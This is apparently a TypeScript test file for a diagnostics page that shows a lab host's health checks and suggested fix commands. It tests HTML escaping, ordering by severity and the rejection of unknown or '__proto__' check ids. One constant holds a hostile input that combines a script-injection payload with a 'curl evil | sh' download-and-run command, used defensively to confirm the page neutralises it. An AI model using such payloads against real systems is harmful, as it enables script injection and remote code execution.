import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ReportedChecks } from '../../../protocol/answers.ts';
import { doctorChecks } from './doctor.ts';

const HOSTILE = '"><script>alert(1)</script>; curl evil | sh';
const render = async (checks: ReportedChecks) => (await doctorChecks(checks, 'lab-07')).toString();
const commandsIn = (page: string) => [...page.matchAll(/<pre[^>]*>([^<]*)<\/pre>/g)].map(([, text]) => text);

test('the cure is ours, with the host’s name in it, whatever the host says', async () => {
  const page = await render([{ id: 'token-expiry', status: 'red', summary: HOSTILE }]);
  assert.deepEqual(commandsIn(page), ['cis490 token create --role host --host lab-07']);
  assert.match(page, /On the receiver:/);
  assert.ok(!page.includes('<script'));
  assert.ok(page.includes('&lt;script&gt;'));
});

const cases: [check: ReportedChecks[number], commands: number][] = [
  [{ id: 'disk', status: 'red', summary: '' }, 1],
  [{ id: 'disk', status: 'yellow', summary: '' }, 1],
  [{ id: 'disk', status: 'unknown', summary: '' }, 0],
  [{ id: 'disk', status: 'green', summary: '' }, 0],
  // Of another version, of the receiver, of nobody.
  [{ id: 'gpu', status: 'red', summary: '' }, 0],
  [{ id: 'reserve', status: 'red', summary: '' }, 0],
  [{ id: '__proto__', status: 'red', summary: '' }, 0],
  [{ id: HOSTILE, status: 'red', summary: '' }, 0],
];
for (const [check, commands] of cases) {
  test(`${check.id.slice(0, 20)} in ${check.status} has ${commands} commands`, async () => {
    const page = await render([check]);
    assert.equal(commandsIn(page).length, commands);
    assert.ok(!page.includes('<script'));
  });
}

test('what is worst stands first, and green ones are folded away', async () => {
  const page = await render([
    { id: 'clock', status: 'green', summary: '' },
    { id: 'disk', status: 'yellow', summary: '' },
    { id: 'gate', status: 'red', summary: '' },
  ]);
  const places = ['<strong>gate', '<strong>disk', '<details', '<strong>clock'].map((text) => page.indexOf(text));
  assert.ok(places.every((place) => place >= 0));
  assert.deepEqual(
    places,
    places.toSorted((left, right) => left - right),
  );
  assert.match(page, /1 green check</);
});
